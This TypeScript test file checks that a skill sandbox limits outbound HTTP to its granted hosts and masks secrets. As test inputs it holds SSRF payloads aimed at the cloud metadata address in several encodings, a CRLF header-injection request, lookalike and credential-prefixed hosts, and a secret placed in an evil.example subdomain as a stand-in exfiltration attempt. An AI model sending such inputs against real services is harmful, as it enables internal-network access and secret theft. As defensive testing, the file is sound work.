// Promise: a skill reaches only the hosts and methods that its manifest lists, and only through the
// edge. A request without a grant ends the call; a failed request returns an error to the skill. A
// skill never sees a credential, and the attestation lists its connections.

import { createServer, type IncomingMessage, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { Stack } from '../../../../infra/stack.ts'
import { digestOf } from '../../../../shared/bytes/json.ts'
import { verifyBundle } from '../../../../shared/evidence/bundle.ts'
import type { Call } from '../../../../shared/wire/calls.ts'
import type { SkillManifest } from '../../../../shared/wire/skills.ts'
import { Fixtures, refusalOf, unwrap } from '../../../support/fixtures.ts'
import { component, hostCallSkill, type Parts, Publisher, returnText } from '../../../support/skills/skill.ts'
import { startTestStack } from '../../../support/stack/stack.ts'

const HOST = 'api.example.test'
const TOKEN = 'a-token-that-nobody-but-its-host-sees'
const acme = new Publisher('capabilities-acme')

/** A stand-in for the host that answers by path and records its requests. */
const came: { readonly request: IncomingMessage; readonly body: string }[] = []
const origin: Server = createServer((request, response) => {
  let body = ''
  request.setEncoding('utf8').on('data', (chunk: string) => {
    body += chunk
  })
  request.on('end', () => {
    came.push({ request, body })
    const path = request.url ?? ''
    if (path.startsWith('/moved'))
      response.writeHead(302, { location: 'http://169.254.169.254/latest' }).end('"moved"')
    else if (path.startsWith('/echo'))
      response.end(JSON.stringify({ said: request.headers['authorization'] ?? null }))
    else if (path.startsWith('/large')) response.end(Buffer.alloc(3 * 1024 * 1024, 0x20))
    else if (path.startsWith('/broken')) {
      response
        .writeHead(200, { 'content-length': 2_000_000 })
        .write(Buffer.alloc(700_000, 0x20), () => setTimeout(() => response.destroy(), 50))
    } else if (path.startsWith('/never')) response.writeHead(200).write('"')
    else response.end(JSON.stringify({ path, method: request.method }))
  })
})

let stack: Stack
let fixtures: Fixtures
let agent: Awaited<ReturnType<Fixtures['agent']>>
let maker: Awaited<ReturnType<Fixtures['operator']>>

beforeAll(async () => {
  await new Promise<void>((resolve) => origin.listen(0, '127.0.0.1', resolve))
  const to = `http://127.0.0.1:${(origin.address() as AddressInfo).port}` // the address of a TCP server
  stack = await startTestStack({ worker: 'idle', loopbackChannels: { [`https://${HOST}`]: to } })
  fixtures = new Fixtures('capabilities', stack.dev)
  agent = await fixtures.agent()
  maker = await fixtures.operator(['admin'])
  unwrap(
    await fixtures.root('putPublisher', { params: { name: acme.name }, body: { keys: [acme.signer.x] } }),
  )
  unwrap(
    await fixtures.root('putSecret', {
      params: { name: 'api-token' },
      body: { value: TOKEN, tools: ['keeper_run'], hosts: [`${HOST}:443`] },
    }),
  )
  unwrap(
    await fixtures.root('putSecret', {
      params: { name: 'readable' },
      body: { value: 'what-it-may-read', tools: ['reader_run'] },
    }),
  )
})
afterAll(async () => {
  origin.closeAllConnections()
  origin.close()
  await stack.stop()
})

const REACHING: Partial<SkillManifest['capabilities']> = { http: { hosts: [HOST], methods: ['GET', 'POST'] } }

async function enabled(
  parts: Parts,
  capabilities: SkillManifest['capabilities'],
  id = fixtures.name(),
  limits: SkillManifest['limits'] = {},
) {
  unwrap(
    await maker.client('publishSkill', {
      body: acme.pack(acme.manifest(id, { capabilities, limits }), await component(parts)),
    }),
  )
  unwrap(await fixtures.root('enableSkill', { params: { id, version: '1.0.0' }, body: {} }))
  return `${id}_run`
}

/** Approves the call if policy asks. */
async function begun(tool: string): Promise<Call> {
  const call = unwrap(await agent.client('proposeCallInNewRun', { body: { tool, args: {} } }))
  if (call.approval !== undefined) unwrap(await fixtures.approve(call.approval.id))
  return call
}
const ended = async ({ run, id }: Call): Promise<Call> =>
  unwrap(await agent.client('readCall', { params: { run, call: id }, wait: 20 }))
const called = async (tool: string): Promise<Call> => ended(await begun(tool))
const asks = async (
  what: Parameters<typeof hostCallSkill>[0],
  limits: SkillManifest['limits'] = {},
): Promise<Call> => called(await enabled(hostCallSkill(what), REACHING, fixtures.name(), limits))

async function connections(call: Call) {
  const bundle = unwrap(await agent.client('readAttestation', { params: { run: call.run, call: call.id } }))
  const { checks, statement } = verifyBundle(bundle, unwrap(await agent.client('keys', {})))
  expect(checks.filter(({ ok }) => !ok)).toEqual([])
  const { connections, skill } = statement?.predicate.execution ?? {}
  return { connections, host_calls: skill?.host_calls }
}

const statementText = ({ envelope }: { readonly envelope: { readonly payload: string } }): string =>
  Buffer.from(envelope.payload, 'base64').toString()

describe('http', () => {
  test('a skill receives its host’s response, and the attestation lists the connection', async () => {
    const call = await asks({ url: `https://${HOST}/v1/things?x=1` })
    expect(call).toMatchObject({
      state: 'succeeded',
      result: { output: '{"path":"/v1/things?x=1","method":"GET"}' },
    })
    const { connections: seen, host_calls } = await connections(call)
    expect(seen).toEqual([
      {
        host: HOST,
        port: 443,
        address: '',
        bytes_out: expect.any(Number),
        bytes_in: expect.any(Number),
        verdict: 'allowed',
      },
    ])
    expect(seen?.[0]?.bytes_out).toBeGreaterThanOrEqual(`https://${HOST}/v1/things?x=1`.length)
    expect(seen?.[0]?.bytes_in).toBeGreaterThan(40) // and its headers
    expect(host_calls).toEqual({ 'http.request': 1, 'http.response': 1 })
  })

  test('a skill’s request is sent with its body and headers, and `host` from the address', async () => {
    const call = await asks({
      method: 'POST',
      url: `https://${HOST}/post`,
      headers: 'x-kind: test\naccept: text/plain\n',
      body: 'hello',
    })
    expect(call.state).toBe('succeeded')
    const { request, body } = came.at(-1) ?? {}
    expect([body, request?.headers['x-kind'], request?.headers['accept']]).toEqual([
      'hello',
      'test',
      'text/plain',
    ])
  })

  test.each<[string, Parameters<typeof hostCallSkill>[0], RegExp]>([
    ['another host', { url: 'https://other.example.test/' }, /is not one of the hosts/],
    ['N07 a name that ends as the host does', { url: `https://evil${HOST}/` }, /is not one of the hosts/],
    ['another port', { url: `https://${HOST}:8443/` }, /is not one of the hosts/],
    ['another method', { method: 'DELETE', url: `https://${HOST}/` }, /is not one of the methods/],
    ['N01 the metadata address', { url: 'https://169.254.169.254/' }, /is an IP address/],
    ['N02 the metadata address as a number', { url: 'https://2852039166/' }, /is an IP address/],
    ['N03 the metadata address in IPv6', { url: 'https://[::ffff:a9fe:a9fe]/' }, /is an IP address/],
    ['N04 a name inside of a network', { url: 'https://localhost./' }, /is not a public host/],
    ['plain http', { url: `http://${HOST}/` }, /not `https`/],
  ])(
    'N01 N02 N03 N04 N07: %s: the skill’s request ends its call, and nothing is sent',
    async (_, what, why) => {
      const before = came.length
      const call = await asks(what)
      expect(call).toMatchObject({
        state: 'failed',
        result: { error: { code: 'capability_denied', detail: expect.stringMatching(why) } },
      })
      expect(came.length).toBe(before)
      expect((await connections(call)).connections).toHaveLength(1) // D4: the attestation is whole
    },
  )

  test.each<[string, Parameters<typeof hostCallSkill>[0], RegExp]>([
    ['N05 a user before the host', { url: `https://${HOST}@other.example.test/` }, /credentials/],
    ['N05 a backslash', { url: `https://${HOST}\\@other.example.test/` }, /`url` is not a valid address/],
    ['N06 a control character', { url: `https://${HOST}/\u0000` }, /`url` is not a valid address/],
    [
      'N11 a second request in a header',
      { url: `https://${HOST}/`, headers: 'x: y\r\n\r\nGET / HTTP/1.1' },
      /is not a line/,
    ],
    [
      'a header about the connection',
      { url: `https://${HOST}/`, headers: 'host: other' },
      /is set by the platform; leave it out/,
    ],
    ['a GET with a body', { url: `https://${HOST}/`, body: 'x' }, /may have no body/],
  ])('N05 N06 N11: %s: the skill’s request fails, and nothing is sent', async (_, what, why) => {
    const before = came.length
    const call = await asks(what)
    expect(call.state).toBe('failed')
    expect(call.result?.error?.detail).toMatch(why)
    expect(came.length).toBe(before)
  })

  test('N08 a redirect is returned to the skill and not followed', async () => {
    const before = came.length
    const call = await asks({ url: `https://${HOST}/moved` })
    expect([call.state, call.result?.output, came.length - before]).toEqual(['succeeded', '"moved"', 1])
  })

  test('N15 a response larger than the call’s limit is cut off with an error', async () => {
    const call = await asks({ url: `https://${HOST}/large` })
    expect(call.result?.error).toMatchObject({
      code: 'skill_error',
      detail: 'the response is larger than the bytes the call may still receive',
    })
    expect((await connections(call)).connections).toEqual([expect.objectContaining({ verdict: 'cap' })])
  })

  test('N15 the bytes of an incomplete response count towards the call’s limit', async () => {
    const call = await asks({ url: `https://${HOST}/broken` })
    expect(call.result?.error?.detail).toBe('the host could not be reached')
    const [seen] = (await connections(call)).connections ?? []
    expect(seen?.verdict).toBe('failed')
    expect(seen?.bytes_in).toBeGreaterThan(100_000)
  })

  test('N15 a response that never ends keeps its call until the deadline, and delays nobody else', async () => {
    const slow = asks({ url: `https://${HOST}/never` }, { timeout_ms: 1_500 })
    const others = await asks({ url: `https://${HOST}/quick` })
    expect(others.state).toBe('succeeded')
    expect((await slow).state).toBe('timed_out')
    expect((await asks({ url: `https://${HOST}/after` })).state).toBe('succeeded')
  })
})

test('a cancellation ends a skill call that waits for a host, and the attestation lists the connection', async () => {
  const waiting = await begun(await enabled(hostCallSkill({ url: `https://${HOST}/never-ends` }), REACHING))
  await expect.poll(() => came.at(-1)?.request.url, { timeout: 10_000 }).toBe('/never-ends')
  unwrap(await agent.client('cancelRun', { params: { run: waiting.run } }))
  const call = await ended(waiting)
  expect([call.state, call.result?.error?.code]).toEqual(['cancelled', 'cancelled'])
  expect((await connections(call)).connections).toEqual([
    expect.objectContaining({ host: HOST, verdict: 'failed' }),
  ])
})

describe('secrets', () => {
  const credentials = [
    { secret: 'api-token', host: `${HOST}:443`, header: 'authorization', format: 'Bearer {}' },
  ]

  test('V04 a credential is sent to its host only, and is masked if the host returns it to the skill', async () => {
    const tool = await enabled(
      hostCallSkill({ url: `https://${HOST}/echo` }),
      { ...REACHING, credentials },
      'keeper',
    )
    const call = await called(tool)
    expect(call.state).toBe('succeeded')
    expect(came.at(-1)?.request.headers['authorization']).toBe(`Bearer ${TOKEN}`)
    expect(call.result?.output).toBe('{"said":"Bearer «secret»"}') // V01
    expect((await connections(call)).connections).toEqual([
      expect.objectContaining({ credentials: ['api-token'] }),
    ])
  })

  test('V03 a secret that is not stored for the tool refuses the call', async () => {
    const tool = await enabled(hostCallSkill({ url: `https://${HOST}/echo` }), { ...REACHING, credentials })
    expect((await called(tool)).decision).toMatchObject({ effect: 'deny', policies: ['vault.secrets'] })
  })

  test('a skill reads a secret that its manifest lists, masked in its output, and reading another one ends the call', async () => {
    const reader = await enabled(hostCallSkill({ secret: 'readable' }), { secrets: ['readable'] }, 'reader')
    expect((await called(reader)).result?.output).toBe('"«secret»"')
  })

  test('D4 an output that is longer than its limit once it is masked ends the call, and its evidence verifies', async () => {
    unwrap(
      await fixtures.root('putSecret', {
        params: { name: 'short' },
        body: { value: '87654321', tools: ['narrow_run'] },
      }),
    )
    const tool = await enabled(returnText('"87654321"'), { secrets: ['short'] }, 'narrow', {
      output_bytes: 10,
    })
    const call = await called(tool)
    expect([call.state, call.result?.error?.code, call.result?.output]).toEqual([
      'failed',
      'quota_exceeded',
      '',
    ])
    await connections(call)
  })

  test('V01 the masked output is checked against the schema, so that a masked number does not pass as a number', async () => {
    unwrap(
      await fixtures.root('putSecret', {
        params: { name: 'pin' },
        body: { value: '12345678', tools: ['pinned_run'] },
      }),
    )
    const call = await called(await enabled(returnText('{"n":12345678}'), { secrets: ['pin'] }, 'pinned'))
    expect([call.state, call.result?.error?.code]).toEqual(['failed', 'invalid_output'])
    expect(JSON.stringify(call)).not.toContain('12345678')
  })

  test('V01 V02 a secret in a host’s name or at the end of a shortened text is masked as a whole', async () => {
    const value = 'what-it-may-read'
    unwrap(
      await fixtures.root('putSecret', {
        params: { name: 'spelled' },
        body: { value, tools: ['speller_run', 'shouter_run'] },
      }),
    )
    const capabilities = { ...REACHING, secrets: ['spelled'] }
    const spelled = await called(
      await enabled(hostCallSkill({ url: `https://${value}.evil.example/` }), capabilities, 'speller'),
    )
    const evidence = unwrap(
      await agent.client('readAttestation', { params: { run: spelled.run, call: spelled.id } }),
    )
    const evidenceText = Buffer.from(JSON.stringify([spelled, evidence])).toString() + statementText(evidence)
    expect(evidenceText).toContain('«secret».evil.example')
    expect(evidenceText).not.toContain(value)
    const shouted = `${'x'.repeat(490)}${value}`
    const shouter = await called(await enabled(returnText(shouted, 'error'), capabilities, 'shouter'))
    expect(shouter.result?.error?.detail).toBe(`${'x'.repeat(490)}«secret»`)
  })

  test('the policy snapshot that the attestation names lists the hosts, secrets and key prefixes that the skill was granted', async () => {
    unwrap(
      await fixtures.root('putSecret', {
        params: { name: 'noted' },
        body: { value: 'a-value-to-read', tools: ['noting_run'] },
      }),
    )
    unwrap(
      await fixtures.root('putSecret', {
        params: { name: 'sent' },
        body: { value: 'a-value-to-send', tools: ['noting_run'], hosts: [`${HOST}:443`] },
      }),
    )
    const capabilities = {
      ...REACHING,
      secrets: ['noted'],
      credentials: [{ secret: 'sent', host: `${HOST}:443`, header: 'authorization', format: 'Bearer {}' }],
      kv: ['notes/', 'drafts/'],
    }
    const { run, id, decision } = await called(await enabled(returnText('"x"'), capabilities, 'noting'))
    const snapshot = unwrap(await agent.client('readSnapshot', { params: { run, call: id } }))
    expect(snapshot.wasm_runtime).toMatchObject({
      allowed_hosts: [HOST],
      allowed_secrets: ['noted', 'sent'],
      allowed_prefixes: ['notes/', 'drafts/'],
    })
    expect(digestOf(snapshot)).toBe(decision.snapshot)
    const { statement } = verifyBundle(
      unwrap(await agent.client('readAttestation', { params: { run, call: id } })),
      unwrap(await agent.client('keys', {})),
    )
    expect(statement?.predicate.facts.decision.snapshot).toBe(decision.snapshot)
  })

  test('a component that imports an undeclared capability is refused', async () => {
    const body = acme.pack(
      acme.manifest(fixtures.name(), { capabilities: { log: true } }),
      await component(hostCallSkill({ secret: 'readable' })),
    )
    expect(refusalOf(await maker.client('publishSkill', { body }))).toBe('422 invalid_skill')
  })
})
